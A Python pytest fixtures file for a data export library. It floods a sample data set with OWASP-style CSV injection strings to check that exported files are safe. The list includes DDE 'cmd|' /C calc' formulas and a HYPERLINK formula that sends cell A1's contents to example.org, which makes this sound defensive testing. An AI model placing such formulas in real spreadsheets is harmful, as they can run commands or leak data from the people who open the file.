"""Files of the landed data sets, and of one whose every text was written to do harm."""

from dataclasses import replace

import pytest

from components.language.texts import Words
from data import positions as graph
from data.address.reading import parse
from data.engines.memory import InMemory
from data.files.extract import Extract
from data.files.write import write
from data.languages import LANGUAGES
from data.selection import Selection
from tests.data.files.oracle import query
from tests.grammar import grammar

# OWASP, "CSV Injection", with the wide forms, what hides behind apostrophes, and what no XML holds.
INJECTIONS = (
    '=HYPERLINK("https://example.org?x="&A1,"here")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1＋1",
    "－1－1",
    "＠SUM(1)",
    "'=1+1",
    "''=1+1",
    '";=1+1',
    "\x00=1\x08\x1b[31m\ufffe\uffff\ud800",
    "_x0041_ _x000D_",
    "<b>&amp;</b> ]]> <!-- -->",
    "\u202eright to left",
    "x" * 40_000,
)
HARMLESS = ("Iran", "'quoted'", "", "a=b", "2020-05/2020-06", "مرز", " =1", "x-y", "'", "''")


@pytest.fixture(scope="session")
def file_of(data_sets, layouts):
    """Make a file: file_of({"data": "article"}, "ties", "csv")."""

    def make(parameters, resource, form):
        selection, ignored = parse(query(parameters), grammar(data_sets))
        assert ignored == ()
        extract = Extract(data_sets[selection.data or "article"], selection)
        layout = layouts[selection.data or "article"][selection.level]
        return write(extract, layout, Words(selection.lang), resource, form)

    return make


@pytest.fixture(scope="session", params=INJECTIONS, ids=lambda text: ascii(text)[:24])
def poison(request):
    """One hostile text."""
    return request.param


@pytest.fixture
def poisoned(small, poison):
    """A data set that says the hostile text wherever it says anything."""
    ends = {"actor": "minister", "target": "hezbollah"}
    data_set = small([{**ends, "status": "claimed", "attributed_to": "x"}])
    texts = ("locator", "label", "attributed_to", "statement", "note")
    return replace(
        data_set,
        titles=dict.fromkeys(data_set.titles, poison),
        relations=InMemory(
            replace(relation, **dict.fromkeys(texts, poison)) for relation in data_set.relations
        ),
        actors={
            key: replace(actor, names=dict.fromkeys(LANGUAGES, poison), role=poison)
            for key, actor in data_set.actors.items()
        },
        sources={
            key: replace(source, title=poison, publisher=poison, url=poison, note=poison)
            for key, source in data_set.sources.items()
        },
        about={"version": poison, "created": poison, "licenses": [{"name": poison}]},
    )


@pytest.fixture
def poisoned_file(poisoned):
    """Make a file of it: poisoned_file("relations", "csv")."""

    def make(resource, form):
        extract = Extract(poisoned, Selection(data="small", level="actors"))
        layout = graph.Positions(poisoned)["actors"]
        return write(extract, layout, Words("en"), resource, form)

    return make
